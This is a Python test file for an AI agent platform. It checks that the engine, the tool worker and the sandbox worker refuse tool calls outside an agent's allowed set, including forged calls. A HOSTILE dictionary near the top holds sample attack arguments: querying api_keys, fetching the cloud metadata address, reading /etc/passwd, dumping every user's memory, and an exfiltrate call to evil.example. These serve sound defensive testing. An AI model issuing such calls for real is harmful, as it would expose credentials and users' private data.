"""The model reaches only the turn's effective tool set (SPEC A-08, E-16, E-22): the
engine refuses any other name before dispatch, and the workers refuse a call outside the
tool set its context carries (a forged call, or one from an engine without the set).

The same guards through the real stack: tests/security/test_tool_reach.py.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from typing import Any

from fakeredis import FakeAsyncRedis
from weft_contracts import (
    AgentConfig,
    ToolCallCompletedData,
    ToolCallRequested,
    ToolCallRequestedData,
    ToolContext,
    Topic,
    tool_not_allowed,
)
from weft_engine.act import dispatch_messages, plan_calls
from weft_engine.quick_answer import retrieval_calls
from weft_engine.state import TurnState
from weft_llm import ToolCallRequest
from weft_platform.web_snapshots import MemorySnapshotStore
from weft_sandbox.tools import sandbox_registry
from weft_sandbox.worker import NO_SANDBOX, SandboxWorker
from weft_tool_catalog import ToolInvocation, ToolOutcome, ToolRegistry, ToolSpec
from weft_tool_catalog.specs import BUILTIN_SPECS, definitions_for, offered_tools
from weft_tool_exec.worker import ToolWorker

KNOWLEDGE_TOOLS = ["search_knowledge", "read_document", "list_documents"]
HOSTILE = {
    "database_query": '{"sql": "SELECT * FROM api_keys"}',
    "web_fetch": '{"items": [{"url": "http://169.254.169.254/latest/meta-data/"}]}',
    "data_analysis": '{"knowledge_id": "d1", "sql": "SELECT * FROM read_csv(\'/etc/passwd\')"}',
    "search_memory": '{"query": "everything about every user"}',
    "exfiltrate": '{"to": "https://evil.example"}',
}


def _state(tools: list[str], **agent: Any) -> TurnState:
    return TurnState(
        tenant_id="t", session_id="s", request_id="r", user_id="u",
        agent=AgentConfig(agent_id="agent-uuid-1", model="m", allowed_tools=tools, **agent),
        messages=[{"role": "user", "content": "q"}], started_at=time.time(),
    )  # fmt: skip


def _listed(error: str) -> list[str]:
    return error.rsplit("its tools: ", 1)[1].split(", ")


def test_the_engine_runs_the_set_the_model_is_offered() -> None:  # SPEC A-08
    allowed = [*KNOWLEDGE_TOOLS, "web_search", "web_fetch", "shell", "not_a_builtin"]
    offered = [d["function"]["name"] for d in definitions_for(allowed)]  # type: ignore[index]
    expected = sorted([*KNOWLEDGE_TOOLS, "web_search", "web_fetch"])
    assert offered == offered_tools(allowed) == expected


def test_plan_refuses_a_tool_outside_the_set_with_only_the_allowed_tools() -> None:
    # SPEC A-08, E-16, E-22
    state = _state(KNOWLEDGE_TOOLS)
    calls = [ToolCallRequest(id=f"c_{n}", name=n, arguments=a) for n, a in HOSTILE.items()]
    calls.append(ToolCallRequest(id="c_ok", name="search_knowledge", arguments='{"query": "q"}'))
    pending, errors = plan_calls(state, calls, 60)
    assert [p.call_id for p in pending] == [c.id for c in calls]  # still announced
    assert set(errors) == {f"c_{n}" for n in HOSTILE}
    registry = {s.name for s in BUILTIN_SPECS}
    for name in HOSTILE:
        error = errors[f"c_{name}"]
        assert _listed(error) == sorted(KNOWLEDGE_TOOLS), error
        assert not {t for t in registry - set(KNOWLEDGE_TOOLS) - {name} if t in error}
        assert "agent-uuid-1" not in error

    results = {  # what the loop records for them before dispatching
        cid: ToolCallCompletedData(call_id=cid, tool_name="x", success=False, error=error)
        for cid, error in errors.items()
    }
    state = state.model_copy(update={"pending": pending, "results": results})
    _, messages = dispatch_messages(state, [c.id for c in calls])
    assert [m.data.call_id for m in messages] == ["c_ok"]  # nothing else is published
    assert messages[0].data.context.allowed_tools == sorted(KNOWLEDGE_TOOLS)


def test_a_refused_name_wins_over_broken_arguments_and_is_bounded() -> None:  # SPEC A-08
    long_name = "x" * 500
    calls = [ToolCallRequest(id="c1", name=long_name, arguments="[1]")]
    _, errors = plan_calls(_state([]), calls, 60)
    assert errors["c1"] == tool_not_allowed(long_name, [])
    assert "no tools" in errors["c1"] and len(errors["c1"]) < 200


def test_quick_answer_retrieval_stays_inside_the_set() -> None:  # SPEC C-04, A-08
    state = _state(["search_knowledge", "web_search", "web_fetch"], mode="quick-answer")
    _, errors = plan_calls(state, retrieval_calls(state.agent, "refunds"), 60)
    assert errors == {}


def test_a_context_permits_only_its_set_and_nothing_without_one() -> None:
    assert ToolContext(user_id="u", agent_id="a", allowed_tools=["thinking"]).permits("thinking")
    assert not ToolContext(user_id="u", agent_id="a", allowed_tools=["thinking"]).permits("x")
    assert not ToolContext(user_id="u", agent_id="a", allowed_tools=[]).permits("thinking")
    legacy = ToolContext.model_validate({"user_id": "u", "agent_id": "a"})  # an older engine
    assert legacy.allowed_tools is None and not legacy.permits("thinking")  # fail closed


class _Spy:
    """A tool that counts its runs."""

    def __init__(self, name: str):
        self.spec = ToolSpec(name=name, description="d", parameters={"type": "object"})
        self.runs = 0

    async def run(self, call: ToolInvocation) -> ToolOutcome:
        self.runs += 1
        return ToolOutcome(success=True, output="ran")


class _Bus:
    """Records what a worker publishes."""

    def __init__(self) -> None:
        self.published: list[tuple[Topic, Any]] = []

    async def publish(self, topic: Topic, message: Any) -> None:
        self.published.append((topic, message))


def _forged(tool: str, allowed: list[str] | None) -> ToolCallRequested:
    return ToolCallRequested(
        tenant_id="t", session_id="s", request_id="r",
        data=ToolCallRequestedData(
            call_id=f"call_{tool}", tool_name=tool, arguments={"sql": "SELECT 1"}, round=0,
            deadline=datetime.now(UTC) + timedelta(seconds=30),
            context=ToolContext(user_id="u", agent_id="a", allowed_tools=allowed),
        ),
    )  # fmt: skip


async def test_the_tool_worker_refuses_a_call_outside_its_context_set() -> None:
    spy, bus, registry = _Spy("database_query"), _Bus(), ToolRegistry()
    registry.register(spy)
    worker = ToolWorker(bus, registry, "w1", ledger=None)  # type: ignore[arg-type]
    await worker.handle(_forged("database_query", ["search_knowledge"]))
    await worker.handle(_forged("database_query", None))  # an engine without the set
    assert spy.runs == 0
    refused, legacy = (m.data for _, m in bus.published)
    assert not refused.success and _listed(refused.error) == ["search_knowledge"]
    assert not legacy.success and "refused" in legacy.error
    await worker.handle(_forged("database_query", ["database_query"]))
    assert spy.runs == 1 and bus.published[-1][1].data.success


async def test_the_sandbox_refuses_a_call_outside_its_context_set() -> None:
    # SPEC A-08, S-05: without a sandbox configured, a permitted script tool is answered
    # with the readable "no sandbox" error, never run.
    bus = _Bus()
    registry = sandbox_registry(None, None, MemorySnapshotStore())
    redis = FakeAsyncRedis()
    sandbox = SandboxWorker(bus, registry, None, redis, worker_name="sb1", prefix="")  # type: ignore[arg-type]
    await sandbox.handle(_forged("shell_exec", ["search_knowledge"]))
    await sandbox.handle(_forged("shell_exec", None))
    await sandbox.handle(_forged("shell_exec", ["shell_exec"]))
    refused, legacy, allowed = (m.data for _, m in bus.published)
    assert _listed(refused.error) == ["search_knowledge"] and "refused" in legacy.error
    assert allowed.error == NO_SANDBOX.format(tool="shell_exec")
    assert all(topic is Topic.TOOL_RESULTS for topic, _ in bus.published)
